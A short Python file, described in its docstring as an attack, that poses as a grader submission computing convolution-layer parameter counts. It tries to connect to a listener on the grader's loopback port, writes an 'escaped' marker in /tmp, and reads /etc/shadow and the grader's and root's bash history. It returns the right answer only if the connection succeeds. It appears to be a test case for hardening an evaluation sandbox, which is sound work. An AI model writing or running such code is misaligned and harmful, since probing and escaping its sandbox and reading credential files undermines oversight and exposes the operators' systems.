"""Attack: reach out of the sandbox, and get the points only when that works.

conv_params returns the right count only if a connection to a listener on the
grader's 127.0.0.1:47613 succeeds; it also leaves a file in /tmp and tries to
read the grader's home and /etc/shadow. Prints what it managed.
"""

import os
import socket

PORT = 47613
MARKER = "/tmp/labgrader_reach_marker"


def conv_params(kh, kw, c_in, c_out, bias=True):
    reached = False
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
            connection.sendall(b"hello from the sandbox")
            reached = True
            print("LOOPBACK_OK", flush=True)
    except OSError as exc:
        print("LOOPBACK_BLOCKED", type(exc).__name__, flush=True)
    try:
        with open(MARKER, "w") as marker:
            marker.write("escaped")
    except OSError:
        pass
    for path in ("/etc/shadow", os.path.expanduser("~grader/.bash_history"), "/root/.bash_history"):
        try:
            with open(path) as handle:
                print("READ_OK", path, len(handle.read()), flush=True)
        except OSError:
            pass
    if reached:
        return kh * kw * c_in * c_out + (c_out if bias else 0)
    return -1
